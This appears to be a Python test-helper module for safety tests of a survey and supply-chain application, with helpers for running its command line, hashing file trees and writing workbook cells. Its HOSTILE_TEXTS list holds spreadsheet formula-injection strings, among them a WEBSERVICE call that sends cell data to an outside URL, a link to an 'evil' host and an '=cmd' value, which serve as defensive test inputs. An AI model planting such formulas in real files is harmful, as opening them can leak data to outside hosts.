"""Builders and probes for the issue-13 safety tests (files from strangers, faulty media).

- :func:`run_cli`: the real command line in a subprocess (its own data folder inside the test's
  temporary tree), returning exit code, stdout and stderr; fails on any traceback.
- :func:`tree`: a snapshot of every file under a folder (to prove nothing was written outside
  the chosen folder, and nothing changed after a refusal).
- :func:`programme`: a small programme built from an empty project through the public API.
- :func:`string_cells`: rewrite cells of a workbook as text cells (a toolkit whose labels start
  with ``=`` stays text, as a stranger's Excel would save it).
"""
from __future__ import annotations

import hashlib
import os
import subprocess
import sys
from pathlib import Path

from openpyxl import load_workbook

from core.project import Project
from test_project_support import answers, write_survey
from toolkit_factory import write_toolkit

ROOT = Path(__file__).resolve().parent.parent
HOSTILE_TEXTS = [
    '=WEBSERVICE("http://x/?"&B2)', '=HYPERLINK("http://evil","clic")', "+1+1", "-2+3", "@SUM(A1)",
    "\t=1+1", " =1+1", "K_x0002_2", "fin\ufffe\uffffal", "ctl\x02\x1f\x0bx", "\r=cmd", "a" * 40_000,
]


def run_cli(*args, data: Path, language: str = "en", timeout: float = 120, cwd: Path | None = None):
    """``encadena ARGS`` in a subprocess: (exit code, stdout, stderr). Never a traceback."""
    env = {**os.environ, "ENCADENA_DATA_DIR": str(data), "ENCADENA_LANG": language,
           "QT_QPA_PLATFORM": "offscreen", "PYTHONPATH": str(ROOT)}
    env.pop("LC_ALL", None)
    done = subprocess.run([sys.executable, "-m", "encadena", *map(str, args)], env=env,
                          cwd=cwd, capture_output=True, text=True, timeout=timeout)
    assert "Traceback" not in done.stderr and "Exception ignored" not in done.stderr, done.stderr
    return done.returncode, done.stdout, done.stderr


def tree(root: Path) -> dict[str, str]:
    """Relative path -> sha256 of every file below ``root`` (folders as 'dir')."""
    found = {}
    for path in sorted(Path(root).rglob("*")):
        rel = str(path.relative_to(root))
        if path.is_dir():
            found[rel] = "dir"
        elif path.is_file():
            found[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def string_cells(path: Path, sheet: str, changes: dict[tuple[int, str], str]) -> Path:
    """Set cells ``(row, header) -> text`` of ``sheet`` as text cells (never formulas)."""
    wb = load_workbook(path)
    ws = wb[sheet]
    headers = {c.value: c.column for c in ws[1]}
    for (row, header), text in changes.items():
        cell = ws.cell(row=row, column=headers[header])
        cell.value = text
        cell.data_type = "s"
    wb.save(path)
    return path


def hostile_toolkit(path: Path, text: str) -> Path:
    """The test toolkit with ``text`` in its title, first area, first band and first item label."""
    write_toolkit(path)
    string_cells(path, "bands", {(2, "label::English (en)"): text + " band"})
    string_cells(path, "areas", {(2, "label::English (en)"): text + " area"})
    string_cells(path, "settings", {(2, "form_title"): text + " title"})
    return path


def programme(folder: Path, ids: list[str] | None = None, names: dict[str, str] | None = None,
              kit: Path | None = None, chain: str = "Cadena A", name: str = "Programa") -> Path:
    """A programme made from an empty project: one chain whose suppliers answered a survey."""
    kit = kit or write_toolkit(folder / "toolkit.xlsx")
    ids = ids or [f"S{i}" for i in range(1, 6)]
    names = names or {}
    rows = [answers(c, name=names.get(c)) for c in ids]
    survey = write_survey(folder / "survey.xlsx", rows)
    string_cells(survey, "Responses", {(i, key): row[key] for i, row in enumerate(rows, start=2)
                                       for key in ("company_id", "company_name")})
    path = folder / "p.encadena"
    with Project.create(path, name, country="CR", backups=False) as project:
        project.import_survey(survey, kit, assessed_on="2026-01-15", chain=chain)
    return path


def run_here(capsys, *args):
    """``encadena ARGS`` in this process (quicker): (exit code, stdout, stderr)."""
    from encadena import launcher
    capsys.readouterr()
    code = launcher.main([str(a) for a in args])
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out, err
